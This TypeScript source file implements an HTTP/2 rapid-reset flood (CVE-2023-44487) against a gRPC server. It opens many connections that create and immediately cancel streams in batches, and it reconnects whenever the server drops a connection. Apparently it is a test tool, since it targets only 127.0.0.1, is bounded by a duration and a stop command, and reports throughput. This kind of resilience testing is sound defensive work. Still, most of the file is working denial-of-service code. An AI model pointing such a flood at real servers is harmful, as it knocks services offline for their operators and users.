// An HTTP/2 rapid-reset flood (CVE-2023-44487): `connections` connections, each
// opening gRPC streams and resetting them at once, as fast as it can, and
// connecting again whenever the server closes a connection. Bounded by
// `durationMs` and by the `stop` command.
import http2 from "node:http2";
import net from "node:net";
import { emit, loadConfig, nextCommand, progress, runMain } from "./protocol.js";

export interface RapidResetConfig {
  port: number;
  connections: number;
  durationMs: number;
  /** The RPC each stream names. */
  path: string;
  /** `Bearer ...` for a signed-in flood; none for an anonymous one. */
  authorization: string | null;
  /** Send the request message (base64 gRPC frame) before resetting; empty for headers only. */
  bodyBase64: string;
  /** Local address to connect from (another loopback address, to tell the flood apart), if any. */
  localAddress?: string;
}

const config = loadConfig<RapidResetConfig>();

runMain(async () => {
  let streams = 0;
  let sessionsOpened = 0;
  let sessionsEnded = 0;
  let connectFailures = 0;
  let stopping = false;
  const body = config.bodyBase64 === "" ? null : Buffer.from(config.bodyBase64, "base64");
  const headers: http2.OutgoingHttpHeaders = {
    ":method": "POST",
    ":path": config.path,
    "content-type": "application/grpc",
    te: "trailers",
    ...(config.authorization !== null && { authorization: config.authorization }),
  };

  /** One connection's loop: open-and-reset in batches, yielding to the event loop between them. */
  const flood = async () => {
    while (!stopping) {
      const session = http2.connect(`http://127.0.0.1:${config.port}`, {
        createConnection: () =>
          net.connect({
            port: config.port,
            host: "127.0.0.1",
            ...(config.localAddress !== undefined && { localAddress: config.localAddress }),
          }),
      });
      session.on("error", () => undefined);
      const ended = new Promise<void>((resolve) => session.once("close", () => resolve()));
      sessionsOpened++;
      const connected = await Promise.race([
        new Promise<boolean>((resolve) => session.once("connect", () => resolve(true))),
        ended.then(() => false),
      ]);
      if (!connected) {
        connectFailures++;
        await new Promise((r) => setTimeout(r, 10));
        continue;
      }
      while (!stopping && !session.closed && !session.destroyed) {
        for (let i = 0; i < 50 && !session.closed && !session.destroyed; i++) {
          try {
            const stream = session.request(headers, { endStream: body === null });
            stream.on("error", () => undefined);
            if (body !== null) stream.end(body);
            stream.close(http2.constants.NGHTTP2_CANCEL);
            streams++;
          } catch {
            break; // the session is going away
          }
        }
        await new Promise((r) => setImmediate(r));
      }
      session.destroy();
      await ended;
      sessionsEnded++;
    }
  };

  emit({ type: "ready" });
  const loops = Array.from({ length: config.connections }, () => flood());
  const started = performance.now();
  const report = setInterval(() => progress(`rapid reset: ${streams} streams, ${sessionsOpened} connections`), 5000);
  await Promise.race([new Promise((r) => setTimeout(r, config.durationMs)), nextCommand("stop")]);
  stopping = true;
  clearInterval(report);
  await Promise.all(loops);
  const seconds = (performance.now() - started) / 1000;
  return {
    streams,
    streamsPerSecond: streams / seconds,
    sessionsOpened,
    sessionsEnded,
    connectFailures,
    seconds,
  };
}, 10 * 60_000);
